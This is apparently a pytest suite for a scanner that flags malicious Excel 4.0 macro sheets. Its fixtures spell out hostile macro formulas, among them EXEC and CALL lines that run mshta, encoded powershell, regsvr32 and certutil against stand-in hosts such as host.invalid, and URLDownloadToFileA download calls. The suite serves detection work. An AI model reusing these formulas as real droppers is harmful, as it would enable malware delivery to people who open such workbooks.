"""What the analyzer of macro sheets says, in each format and for each thing a macro sheet can do."""

import struct

import pytest

from emotriage import scan
from emotriage.analyzers.xlm import ANALYZER
from emotriage.model.analyzer import Subject
from emotriage.model.blob import Blob
from emotriage.model.finding import Finding, Trait
from emotriage.model.indicator import Indicator
from emotriage.model.limits import Budget, Limits
from emotriage.model.passwords import Opened, Passwords
from emotriage.testing import build_recipe, load_recipe
from emotriage.testing.compound_file import compound_file
from emotriage.testing.document import document
from emotriage.testing.workbook import workbook

FORMATS = ("xls", "xlsm")


def look(data, budget=None):
    kind = "ole" if data.startswith(b"\xd0\xcf") else "ooxml"
    return list(ANALYZER.run(Subject(Blob(data), kind, "sample", budget or Budget(Limits()))))


def findings(data):
    return {one.rule.removeprefix("xlm."): one for one in look(data) if isinstance(one, Finding)}


def indicators(data):
    return {(one.kind, one.value, one.origin) for one in look(data) if isinstance(one, Indicator)}


def book(*formulas, format="xls", **more):  # noqa: A002  # the builder's own word
    cells = {f"A{row}": formula for row, formula in enumerate(formulas, 1)}
    return workbook(format, xlm={"Macro1": cells}, **more)


@pytest.mark.parametrize("format", FORMATS)
def test_a_hidden_sheet_that_starts_and_runs_something(format):  # noqa: A002
    found = findings(
        book(
            '=EXEC("emotriage-inert /x")',
            format=format,
            state={"Macro1": "veryhidden"},
            names={"Auto_Open": "Macro1!$A$1"},
        )
    )
    assert set(found) == {"macrosheet", "very-hidden-macrosheet", "autorun", "executes"}
    assert found["executes"].evidence[0].text == '=EXEC("emotriage-inert /x")'
    assert found["executes"].evidence[0].where == "Macro1!A1"
    assert Trait.EXECUTE in found["executes"].traits
    assert Trait.AUTORUN in found["autorun"].traits


@pytest.mark.parametrize(
    ("formulas", "rule"),
    [
        (["=EXEC(A9)"], "executes"),
        (['=INITIATE(B1,"topic")'], "executes"),
        (['=INITIATE("Letters","System")', '=EXECUTE(A1,"[x]")'], "talks-to-program"),
        (['=INITIATE("cmd","/c emotriage-inert")'], "runs-interpreter"),
        (['=EXEC("C:\\WINDOWS\\NOTEPAD.EXE read.me")'], "starts-accessory"),
        (['=EXEC("notepad.exe \\\\server.invalid\\share")'], "executes"),
        (['=SEND.KEYS("^{ESC}mshta http://host.invalid/a~")'], "runs-interpreter"),
        (['=CALL(B1,B2,"JJ",0)'], "calls-library"),
        (['=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'], "calls-library"),
        (['=CALL("..\\file.ocx","Start","J")'], "calls-library"),
        (['=CALL("lib","Function","JJ",0)'], "names-library"),
        (['=CALL(GET.WORKSPACE(23)&"\\LIB.DLL","Function","JJ",0)'], "names-library"),
        (['=REGISTER("lib","Function","JJ","called",,1,9)'], "names-library"),
        (['=CALL("INSENG","DownloadFile","BCCJ",A1,A2,1)'], "downloads"),
        (['=OPEN("http://host.invalid/a.xls")'], "opens-remote"),
        (['=CALL("urlmon","URLDown"&"loadToFileA","JJCCJJ",0,A1,A2,0,0)'], "downloads"),
        (['=EXEC("certutil -urlcache -f http://host.invalid/a b")'], "downloads"),
        (['=CALL(B1,B2,"JJ","http://host.invalid/a")'], "downloads"),
        (['=CALL("Kernel32","WinExec","JCJ",A1,0)'], "dangerous-api"),
        (['=REGISTER("Kernel32","VirtualAlloc","JJJJJ","called",,1,9)'], "dangerous-api"),
        (['=EXEC("po^wer^shell -enc AAAA")'], "runs-interpreter"),
        (['=EXEC("mshta "&A1)'], "runs-interpreter"),
        (['="regsvr32 /s file"', "=EXEC(A1)"], "runs-interpreter"),
        (["=FWRITELN(A1,A2)"], "writes-file"),
        (['=FWRITE(A1,"text")'], "writes-file"),
        (['=FILE.DELETE("x")'], "covers-tracks"),
        (['=WORKBOOK.HIDE("Macro1",TRUE)'], "covers-tracks"),
        (["=FORMULA(B1&B2,C1)"] * 5, "writes-formulas"),
        (["=FORMULA.FILL(CHAR(61)&B1,C1)"] * 5, "writes-formulas"),
        (["=WHILE(A9<20)", '=SET.NAME("x",A8&CHAR(A9-3))', "=NEXT()", "=FORMULA(A8,B1)"], "writes-formulas"),
        (['=FOR("i",1,9)', "=FORMULA(MID(B1,A9,1),B2)", "=NEXT()"], "writes-formulas"),
        (['=FORMULA("=EXEC(""emotriage-inert"")",B1)'], "executes"),
        (['=FORMULA("=FORMULA(""=CALL(A1,A2)"",A1)",B1)'], "calls-library"),
        (["=" + "&".join(f"CHAR({code})" for code in range(65, 75))], "character-chains"),
        (["=" + "&".join(f"B{row}" for row in range(1, 17))], "character-chains"),
        (["=CHAR(65)&CHAR(66)"] * 75, "character-chains"),
        (["=IF(GET.WORKSPACE(19),A2,A3)", "=IF(GET.WORKSPACE(42),A2,A3)"], "environment-questions"),
        (["=GET.CELL(17,B1)", "=DAY(NOW())"], "environment-questions"),
    ],
)
@pytest.mark.parametrize("format", FORMATS)
def test_what_a_sheet_does(formulas, rule, format):  # noqa: A002
    assert rule in findings(book(*formulas, format=format))


@pytest.mark.parametrize(
    ("formulas", "rule"),
    [
        (['=CALL("ur"&"lmon","URLDown"&"loadToFileA","JJCCJJ",0)'], "split-command"),
        (["=EXEC(B1&B2)"], "split-command"),
        (["=FORMULA(C1&C2,D1)", "=GOTO(D1)"], "writes-formulas"),
        (["=FORMULA.FILL(C1&C2,D1)"], "writes-formulas"),
        (["=EVALUATE(C3&C2)"], "downloads"),
        (['=SET.NAME("n",B1)', "=EXEC(n&B2)"], "split-command"),
        (["=SET.VALUE(D1,B1&B2)", "=EXEC(D1)"], "runs-interpreter"),
        (['=EXEC(INDEX(B1:B2,1)&OFFSET(B1,1,0)&INDIRECT("B9"))'], "runs-interpreter"),
    ],
)
@pytest.mark.parametrize("format", FORMATS)
def test_what_a_sheet_does_with_its_constants(formulas, rule, format):  # noqa: A002
    cells = {f"A{row}": formula for row, formula in enumerate(formulas, 1)}
    cells |= {"B1": "msh", "B2": "ta http://host.invalid/a"}
    cells |= {"C1": "'=EX", "C2": 'EC("regsvr32 /i:http://host.invalid/a")', "C3": "EX"}
    assert rule in findings(workbook(format, xlm={"Macro1": cells}, names={"n": '""'}))


@pytest.mark.parametrize(
    "formulas",
    [
        ['=ALERT("cmd and powershell are programs; http://host.invalid explains")'],
        ['=FORMULA("=SUM(R[-3]C:R[-1]C)",B1)'] * 20,
        ['=FORMULA("Total",B1)', '=FORMULA("a"&B1,B2)', "=RUN(B1)"],
        ['=MESSAGE(TRUE,"line"&CHAR(13)&"line"&CHAR(10)&A1)'],
        ["=GET.CELL(17,B1)", "=GET.WINDOW(7)", "=GET.DOCUMENT(1)"],
        ["=GET.WORKSPACE(1)"],
        ['=ALERT("a"&CHAR(13)&"b"&CHAR(13)&"c")'] * 40,
        ['=FOR("i",1,9)', '=FORMULA("=B"&B9,B1)', "=NEXT()", '=ALERT("a"&CHAR(13)&"b")'],
        ['=FOPEN("list.txt",2)', "=FREADLN(A1)"],
        ["=RETURN(A1)"],
        ['=FORMULA("Sales of "&B1&" in "&B2,C1)'] * 8,
        ['=FORMULA(LEFT("Monday",3)&" total",C1)'] * 8,
        ["=IF(GET.WORKSPACE(13)<600,A9)", "=IF(GET.WORKSPACE(1)=B1,A9)", "=APP.MAXIMIZE()"],
        ['=FOR("i",1,9)', '=SET.VALUE(B1,B1&MID("a-b-c",A9,1))', "=NEXT()"],
    ],
)
def test_what_honest_sheets_do(formulas):
    assert set(findings(book(*formulas, names={"Auto_Open": "Macro1!$A$1"}))) == {"macrosheet", "autorun"}


def test_worksheets_say_nothing():
    data = workbook("xls", sheets={"S": {"A1": "=1+1", "A2": "powershell -enc AAAA"}}, names={"Auto_Open": "S!$A$1"})
    assert look(data) == []
    assert look(document("doc", text="hello")) == []
    assert look(document("docx", text="hello")) == []


def test_an_empty_macro_sheet_is_a_fact_and_nothing_more():
    assert set(findings(workbook("xls", xlm={"M": {}}, state={"M": "hidden"}))) == {"macrosheet"}


def test_hidden_is_not_very_hidden():
    data = book("=HALT()", state={"Macro1": "hidden"})
    assert set(findings(data)) == {"macrosheet", "hidden-macrosheet"}


@pytest.mark.parametrize("name", ["Auto_Open7", "Auto\u200b_Open", "_xlnm.Auto_openXyz"])
@pytest.mark.parametrize("format", FORMATS)
def test_names_in_disguise(name, format):  # noqa: A002
    found = findings(book("=HALT()", format=format, names={name: "Macro1!$A$1"}, hidden_names=[name]))
    assert {"autorun", "disguised-autorun", "hidden-autorun"} <= set(found)
    assert found["autorun"].evidence[0].text == f"{name} =Macro1!$A$1"


def test_the_command_can_be_a_name():
    data = book("=EXEC(command)", names={"command": '"powershell -enc AAAA"', "Auto_Open": "Macro1!$A$1"})
    found = findings(data)
    assert [one.where for one in found["runs-interpreter"].evidence] == ["Macro1!A1", "command"]


@pytest.mark.parametrize("format", FORMATS)
def test_texts_are_fetched_from_worksheets_that_the_macros_refer_to(format):  # noqa: A002
    cells = {"B2": "'=CALL(", "C3": '"urlmon","URLDown', "D4": 'loadToFileA","JJCCBB",0,"http://host.invalid/a"'}
    data = workbook(
        format,
        sheets={"Sheet1": {}, "It's": cells, "Other": {"A1": "powershell -enc AAAA"}},
        xlm={"Macro1": {"A1": "=FORMULA('It''s'!B2&'It''s'!C3&'It''s'!D4&\")\",A9)"}},
    )
    assert {"downloads", "calls-library", "split-command", "writes-formulas"} <= set(findings(data))
    assert ("url", "http://host.invalid/a", "emulated") in indicators(data)
    assert "runs-interpreter" not in findings(data)


def test_a_name_said_openly_somewhere_is_not_split():
    found = findings(book('=EXEC("msh"&"ta emotriage-inert.invalid")', '=EXEC("mshta emotriage-inert.invalid")'))
    assert "split-command" not in found


@pytest.mark.parametrize("format", FORMATS)
def test_a_registered_function_is_called_by_its_number(format):  # noqa: A002
    found = findings(book('=REGISTER("LIB.DLL","Function","JJ")', "=CALL(A1,5)", format=format))
    assert set(found) == {"macrosheet", "names-library"}


def test_results_that_were_stored_are_read_too():
    data = book("=B1&B2", results={"Macro1": {"A1": "powershell -enc AAAA"}})
    assert "runs-interpreter" in findings(data)
    assert ("command", "powershell -enc AAAA", "decoded") in indicators(data)


def test_addresses_and_commands_are_indicators():
    data = book('=EXEC("mshta http://host"&".invalid/a.hta")', '=ALERT("\\\\server.invalid\\share\\x")')
    assert indicators(data) == {
        ("url", "http://host.invalid/a.hta", "emulated"),
        ("command", "mshta http://host.invalid/a.hta", "emulated"),
        ("path", "\\\\server.invalid\\share\\x", "literal"),
    }


def test_evidence_is_short_and_counted():
    found = findings(book(*['=EXEC("' + "x" * 200 + '")'] * 20))
    assert len(found["executes"].evidence) == 8
    assert all(len(one.text) <= 160 for one in found["executes"].evidence)
    chains = findings(book(*["=" + "&".join(["CHAR(65)"] * 12)] * 20))["character-chains"]
    assert chains.evidence[-1].text == "and 12 more"


def test_a_sheet_of_another_type_and_one_outside_the_list():
    data = book("=HALT()", defects=["macro-sheet-undeclared"])
    assert "sheet-type-differs" in findings(data)
    stray = book("=HALT()", format="xlsm", parts={"xl/_rels/workbook.xml.rels": b"<Relationships/>"})
    assert "unlisted-macrosheet" in findings(stray)


def stream_of(data):
    from emotriage.formats.cfb import read_compound_file

    compound = read_compound_file(Blob(data), Budget(Limits()))
    return compound.open(compound.find("Workbook")).read()


def test_two_workbooks_in_one_file():
    one, other = book('=EXEC("emotriage-inert")'), book("=HALT()")
    both = workbook("xls", streams={"Book": stream_of(one)})
    found = findings(both)
    assert {"ambiguous-workbook", "executes"} <= set(found)
    assert found["executes"].evidence[0].where == "Book: Macro1!A1"
    same = compound_file({"Workbook": stream_of(other), "Book": stream_of(other)})
    assert "ambiguous-workbook" not in findings(same)


def record(kind, data=b""):
    return struct.pack("<HH", kind, len(data)) + data


def test_what_is_encrypted_is_a_gap():
    stream = stream_of(book('=EXEC("emotriage-inert")'))
    head = 4 + struct.unpack_from("<H", stream, 2)[0]
    at = stream.index(record(0x85)[:2], head)
    secret = record(0x2F, bytes(54))
    entry = struct.unpack_from("<I", stream, at + 4)[0]
    assert entry
    rest = bytearray(stream[head:])
    # every position in the list of sheets moves by the length of the new record
    offset = at - head
    while struct.unpack_from("<H", rest, offset)[0] == 0x85:
        (position,) = struct.unpack_from("<I", rest, offset + 4)
        struct.pack_into("<I", rest, offset + 4, position + len(secret))
        offset += 4 + struct.unpack_from("<H", rest, offset + 2)[0]
    found = findings(compound_file({"Workbook": stream[:head] + secret + bytes(rest)}))
    assert set(found) == {"macrosheet", "encrypted-workbook", "unread-macrosheet"}
    assert found["encrypted-workbook"].incomplete
    assert found["unread-macrosheet"].incomplete


@pytest.mark.parametrize("stream", [b"\0", b"no workbook"])
def test_a_stream_that_is_not_read_is_a_gap(stream):
    found = findings(compound_file({"Workbook": stream}))
    assert found["damaged-workbook"].incomplete


def test_a_stream_of_an_unknown_version_is_a_gap_that_says_so():
    sheet = struct.pack("<HHHH", 0x0809, 8, 0x0777, 0x40) + bytes(4)
    found = findings(compound_file({"Workbook": sheet}))
    assert found["old-workbook"].incomplete
    assert found["old-workbook"].evidence[0].text == "BIFF version unknown, macro sheet"
    assert "damaged-workbook" not in found


def test_formulas_that_are_not_decoded_are_a_gap():
    found = findings(workbook("xls", xlm={"M": {"A1": b"\x17\x04\x00calc\x42\x01\x6e\x00\x30"}}))
    assert {"macrosheet", "executes", "unread-macrosheet"} == set(found)
    assert found["unread-macrosheet"].evidence[0].where == "M!A1"


def test_oddities_are_told():
    assert "odd-structure" in findings(book("=HALT()", "=HALT()", defects=["no-sheet-eof"]))


def test_the_same_sheet_says_the_same_in_each_format():
    more = {"state": {"Macro1": "veryhidden"}, "names": {"Auto_Open": "Macro1!$A$1"}}
    formulas = ['=EXEC("mshta "&CHAR(104)&A9)', '=CALL("urlmon","URLDownloadToFileA","JJ",0)', "=FORMULA(A1&A2,A3)"] * 3
    old, new = (findings(book(*formulas, format=one, **more)) for one in FORMATS)
    assert old == new


def test_a_large_sheet_costs_linear_work():
    works = []
    for count in (1500, 3000):
        budget = Budget(Limits())
        look(book(*['=IF(A1="x",EXEC("emotriage-inert "&CHAR(65)),B1)'] * count), budget)
        works.append(budget.work)
    assert works[1] <= 2.1 * works[0]


@pytest.mark.parametrize(("password", "opened"), [("VelvetSweatshop", True), ("known to nobody", False)])
def test_an_encrypted_workbook_is_read_by_the_default_password(password, opened):
    data = book('=EXEC("mshta emotriage-inert.invalid")', password=password)
    found = set(findings(data))
    defaults = [one for one in look(data) if isinstance(one, Finding) and one.rule == "ole.default-password"]
    assert bool(defaults) is opened
    assert ("runs-interpreter" in found) is opened
    assert ("encrypted-workbook" in found) is not opened
    assert ([one.source for one in look(data) if isinstance(one, Opened)] == ["well-known"]) is opened


def test_an_encrypted_workbook_is_read_by_a_candidate():
    data = book('=EXEC("mshta emotriage-inert.invalid")', password="secret")
    subject = Subject(Blob(data), "ole", "sample", Budget(Limits()), Passwords.of(["no", "secret"]))
    found = list(ANALYZER.run(subject))
    assert Opened("caller") in found
    rules = {one.rule for one in found if isinstance(one, Finding)}
    assert "xlm.runs-interpreter" in rules
    assert not {"ole.default-password", "xlm.encrypted-workbook"} & rules


@pytest.mark.parametrize("format", FORMATS)
def test_visual_basic_that_starts_macros_joins_the_chain(format):  # noqa: A002
    started = 'Application.Run "Macro1!A5"\n  ExecuteExcel4Macro "EXEC(""mshta http://host.invalid/b"")"'
    source = f"Sub AutoOpen()\n  {started}\nEnd Sub\n"
    cells = {"A1": '=EXEC("no")', "A5": '=EXEC("regsvr32 /s http://host.invalid/a")', "A6": "=HALT()"}
    data = workbook(format, xlm={"Macro1": cells}, macros={"Module1": source})
    found = findings(data)
    assert [one.where for one in found["started-by-vba"].evidence] == ["Module1:3", "Module1:4"]
    assert {("url", "http://host.invalid/a", "literal"), ("url", "http://host.invalid/b", "emulated")} <= indicators(
        data
    )


@pytest.mark.parametrize(("name", "origin"), [('"Macro" & Chr(49) & "!C1"', "emulated"), ('"Macro1!A1"', "decoded")])
def test_where_visual_basic_computes_what_it_runs_every_column_is_followed(name, origin):
    cells = {"A1": "=HALT()", "C1": '=EXEC("msh"&"ta http://host.invalid/c")', "C2": "=HALT()"}
    source = f"Sub Workbook_Open()\n  Application.Run {name}\nEnd Sub\n"
    data = workbook("xlsm", xlm={"Macro1": cells}, macros={"Module1": source}, names={"Auto_Open": "Macro1!$A$1"})
    assert ("url", "http://host.invalid/c", origin) in indicators(data)


def test_visual_basic_that_is_not_read_is_a_gap_and_the_macros_are_followed():
    data = workbook(
        "xlsm", xlm={"Macro1": {"A1": '=EXEC("mshta http://host.invalid/a")'}}, macros={"M": "Sub A()\nEnd Sub\n"}
    )
    broken = workbook(
        "xlsm",
        xlm={"Macro1": {"A1": '=EXEC("mshta http://host.invalid/a")'}},
        macros={"M": "Sub A()\nEnd Sub\n"},
        parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)},
    )
    assert "damaged-workbook" not in findings(data)
    assert findings(broken)["damaged-workbook"].incomplete
    assert "runs-interpreter" in findings(broken)


@pytest.mark.parametrize("name", ["window", "workspace", "document", "font", "height"])
def test_keys_of_the_surroundings_are_named(name):
    (found,) = [
        one
        for one in scan(build_recipe(load_recipe(f"xlm/{name}-key")), name="a.xls").findings
        if one.rule == "xlm.environment-key"
    ]
    assert (
        found.evidence[0].text
        == {
            "window": "GET.WINDOW(23) is 2",
            "workspace": "GET.WORKSPACE(13) is 960",
            "document": "GET.DOCUMENT(50) is 7",
            "font": "GET.CELL(19) is 10",
            "height": "GET.CELL(17) is 13",
        }[name]
    )
